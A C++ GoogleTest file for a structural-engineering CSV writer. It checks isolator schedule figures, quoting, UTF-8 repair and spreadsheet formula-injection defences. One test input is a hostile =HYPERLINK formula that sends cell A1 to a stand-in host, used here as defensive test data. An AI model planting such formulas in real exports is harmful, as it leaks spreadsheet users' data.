// SPDX-License-Identifier: GPL-3.0-or-later
#include "tamsor/schedule_csv.h"

#include <gtest/gtest.h>

#include <sstream>
#include <string>
#include <vector>

#include "comma_decimal_locale.h"
#include "hand_worked_building.h"
#include "strict_csv.h"

namespace tamsor {
namespace {

using testing::readCsv;
using testing::Records;

// The spread of each type, worked by hand: (980 - 640) / 980 = 34.69 %,
// (1250.5 - 980) / 1250.5 = 21.63 %, (2010 - 1250.5) / 2010 = 37.79 %, the
// worst; capacity above need: 340 + (270.5 + 150.5) + 759.5 = 1520.5 of the
// loads' 8211, 18.52 %.
TEST(ScheduleCsv, HandWorkedScheduleByteForByteWhateverTheStreamLocale) {
    std::ostringstream out;
    out.imbue(commaDecimalLocale());
    writeScheduleCsv(out, handWorkedSchedule());
    EXPECT_EQ(out.str(),
              "type,isolators,smallest,largest (design load),mean,spread,largest above mean %,"
              "spread %,worst spread %,capacity above need %\r\n"
              "1,2,640.0,980.0,810.00,340.00,21.0,34.7,37.8,18.5\r\n"
              "2,3,980.0,1250.5,1110.17,270.50,12.6,21.6,37.8,18.5\r\n"
              "3,2,1250.5,2010.0,1630.25,759.50,23.3,37.8,37.8,18.5\r\n"
              "\r\n"
              "line,load,type,label\r\n"
              "2,1250.5,2,axis B/4\r\n"
              "3,980.0,1,\"column C, north\"\r\n"
              "5,1250.5,3,\"pier \"\"P7\"\"\"\r\n"
              "6,640.0,1,S\xC3\xA4ule \xC3\x84/3\r\n"
              "7,1100.0,2,\r\n"
              "9,980.0,2,corner A/1\r\n"
              "10,2010.0,3,\"core wall, \"\"east\"\"\"\r\n");
}

TEST(ScheduleCsv, HeadingsOfLoadsNameTheLoadUnit) {
    std::ostringstream out;
    writeScheduleCsv(out, handWorkedSchedule(), "kN");
    const std::string csv = out.str();
    EXPECT_TRUE(
        csv.starts_with("type,isolators,smallest (kN),largest (design load) (kN),mean (kN),"
                        "spread (kN),largest above mean %,spread %,worst spread %,"
                        "capacity above need %\r\n"
                        "1,2,640.0,980.0,810.00,340.00,21.0,34.7,37.8,18.5\r\n"))
        << csv;
    EXPECT_NE(csv.find("\r\nline,load (kN),type,label\r\n"), std::string::npos) << csv;
}

TEST(ScheduleCsv, EveryLabelReadsBackWithAStrictReader) {
    auto loads = handWorkedLoads();
    const std::vector<std::string> awkward = {
        "\"",       "\"\"", "\"quoted\" start", "ends with a comma,", "line\r\nbreak",
        "bare\rCR", ",,,",  "tab\there",
    };
    for (std::size_t i = 0; i < awkward.size(); ++i)
        loads.push_back({20 + static_cast<int>(i), 3000.0f + static_cast<float>(i), awkward[i]});
    loads.push_back(
        {40, 0.5f, "\xE4 \xC0\xAF \xE0\x80\xAF \xED\xA0\x80 \xF4\x90\x80\x80 \xF0\x9F\x8F\x97"});
    const std::vector<int> grouping = {1, 3, 6, static_cast<int>(loads.size()) + 1};
    std::ostringstream out;
    writeScheduleCsv(out, makeIsolatorSchedule(loads, grouping));

    Records records;
    ASSERT_NO_THROW(records = readCsv(out.str())) << out.str();
    ASSERT_EQ(records.size(), 1 + 3 + 1 + 1 + loads.size());
    for (std::size_t r = 0; r < 4; ++r)
        EXPECT_EQ(records[r].size(), 10u);
    EXPECT_EQ(records[4], std::vector<std::string>{""});
    EXPECT_EQ(records[5], (std::vector<std::string>{"line", "load", "type", "label"}));
    for (std::size_t i = 0; i + 1 < loads.size(); ++i) {
        const auto& record = records[6 + i];
        ASSERT_EQ(record.size(), 4u);
        EXPECT_EQ(record[0], std::to_string(loads[i].line));
        EXPECT_EQ(record[3], loads[i].label);
    }
    // Each byte outside well-formed UTF-8 (Latin-1, overlong, surrogate, beyond
    // U+10FFFF) becomes U+FFFD, so the file stays valid UTF-8; U+1F3D7 passes.
    const std::string r = "\xEF\xBF\xBD";
    EXPECT_EQ(records.back()[3], r + " " + r + r + " " + r + r + r + " " + r + r + r + " " + r + r +
                                     r + r + " \xF0\x9F\x8F\x97");
    EXPECT_EQ(records.back()[1], "0.5");
}

TEST(ScheduleCsv, TextThatASpreadsheetWouldTakeAsAFormulaStaysTextAndFiguresStayNumbers) {
    // An uplift load alone in type 1: its negative figures are numbers, not text.
    const std::vector<IsolatorLoad> loads = {
        {1, -42.5f, "-2+3"},
        {2, 10.0f, "+1+1"},
        {3, 20.0f, "@SUM(1,2)"},
        {4, 30.0f, "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")"},
        {5, 40.0f, "'s-Hertogenbosch"},
        {6, 50.0f, "a=b+1 -2"},
    };
    const auto schedule = makeIsolatorSchedule(loads, std::vector{1, 2, 7});
    std::ostringstream out;
    writeScheduleCsv(out, schedule);
    EXPECT_EQ(out.str(),
              "type,isolators,smallest,largest (design load),mean,spread,largest above mean %,"
              "spread %,worst spread %,capacity above need %\r\n"
              "1,1,-42.5,-42.5,-42.50,0.00,,,,\r\n"
              "2,5,10.0,50.0,30.00,40.00,66.7,,,\r\n"
              "\r\n"
              "line,load,type,label\r\n"
              "1,-42.5,1,\"'-2+3\"\r\n"
              "2,10.0,2,\"'+1+1\"\r\n"
              "3,20.0,2,\"'@SUM(1,2)\"\r\n"
              "4,30.0,2,\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"click\"\")\"\r\n"
              "5,40.0,2,\"'s-Hertogenbosch\"\r\n"
              "6,50.0,2,a=b+1 -2\r\n");

    // The data file's name is text from outside too; a spreadsheet may drop a
    // leading tab or CR and read the formula behind it.
    RunSummary run{
        "-tower.DAT", "Method2", {{2, ResultSetStatus::kOk, 12.5, typeSummaries(schedule)}}, {}};
    std::ostringstream summary;
    writeSummaryCsvRows(summary, run);
    run.dataFile = "\ttower\r.DAT";
    writeSummaryCsvRows(summary, run);
    EXPECT_EQ(summary.str(),
              "\"'-tower.DAT\",Method2,2,ok,12.50,1,1,-42.5,-42.5,-42.50,,\r\n"
              "\"'-tower.DAT\",Method2,2,ok,12.50,2,5,10.0,50.0,30.00,,\r\n"
              "\"'\ttower\r.DAT\",Method2,2,ok,12.50,1,1,-42.5,-42.5,-42.50,,\r\n"
              "\"'\ttower\r.DAT\",Method2,2,ok,12.50,2,5,10.0,50.0,30.00,,\r\n");
}

TEST(SummaryCsv, OneRowPerTypeAndOnePerSetNotReached) {
    const auto loads = handWorkedLoads();
    RunSummary run;
    run.dataFile = "hall, west.DAT";
    run.technique = "Method 1";
    run.resultSets = {
        {1, ResultSetStatus::kOk, 153785.357142857,
         typeSummaries(makeIsolatorSchedule(loads, std::vector{1, 8}))},
        // A pooled variance too large for the report's field is not shown.
        {2, ResultSetStatus::kOk, std::nullopt,
         typeSummaries(makeIsolatorSchedule(loads, std::vector{1, 5, 8}))},
        {3, ResultSetStatus::kNotReached, std::nullopt, {}},
    };
    // One type of 640 to 2010: (2010 - 640) / 2010 = 68.16 %; 7 x 2010 - 8211 = 5859 above
    // the loads' 8211, 71.36 %.
    run.resultSets[0].worstSpreadPercent = 1370.0 / 2010 * 100;
    run.resultSets[0].capacityAboveNeedPercent = 5859.0 / 8211 * 100;
    std::ostringstream out;
    out.imbue(commaDecimalLocale());
    writeSummaryCsvHeader(out);
    writeSummaryCsvRows(out, run);
    EXPECT_EQ(out.str(),
              "data file,technique,type count,status,pooled variance,type,isolators,smallest,"
              "largest,mean,worst spread %,capacity above need %\r\n"
              "\"hall, west.DAT\",Method 1,1,ok,153785.36,1,7,640.0,2010.0,1173.00,68.2,71.4\r\n"
              "\"hall, west.DAT\",Method 1,2,ok,,1,4,640.0,1100.0,925.00,,\r\n"
              "\"hall, west.DAT\",Method 1,2,ok,,2,3,1250.5,2010.0,1503.67,,\r\n"
              "\"hall, west.DAT\",Method 1,3,not reached,,,,,,,,\r\n");
}

}  // namespace
}  // namespace tamsor
